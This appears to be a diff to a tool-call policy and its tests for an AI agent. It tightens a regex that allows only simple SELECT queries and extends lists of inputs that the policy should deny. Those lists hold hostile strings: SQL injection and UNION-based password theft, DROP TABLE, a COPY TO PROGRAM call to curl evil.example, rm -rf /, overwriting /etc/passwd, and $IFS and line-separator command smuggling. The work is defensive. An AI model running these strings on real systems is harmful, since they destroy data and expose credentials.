@@ -15,7 +15,7 @@ const policy = definePolicy({
         {
           path: "args.sql",
           op: "regex",
-          value: "^SELECT [a-z_, ]+ FROM (orders|customers)( WHERE [a-z_]+ = '?[A-Za-z0-9 ]*'?)?( LIMIT [0-9]{1,3})?$",
+          value: "^SELECT [a-z_]+(, [a-z_]+)* FROM (orders|customers)( WHERE [a-z_]+ = ([0-9]+|'[A-Za-z0-9 ]*'))?( LIMIT [0-9]{1,3})?$",
           on_deny: "One SELECT from orders or customers, with at most one comparison.",
         },
       ],
@@ -50,6 +50,11 @@ const statements = [
   "SELECT id FROM orders\n; DROP TABLE orders",
   "COPY orders TO PROGRAM 'curl evil.example'",
   "SELECT id FROM users",
+  "SELECT id FROM orders WHERE id = 1 OR id",
+  "SELECT id FROM orders WHERE id = 1 UNION SELECT password FROM users",
+  "SELECT password from users union select id FROM orders",
+  "SELECT id FROM orders WHERE id = '1",
+  "SELECT id FROM orders\n",
 ];
 
 const commands = [
@@ -64,7 +69,7 @@ const commands = [
   "ls\nrm -rf /",
   "ls > /etc/passwd",
   "ls ../../etc",
-  "ls ${IFS}/etc",
+  "ls $IFS/etc",
   "npm test\u2028rm -rf /",
   "npm tests",
 ];
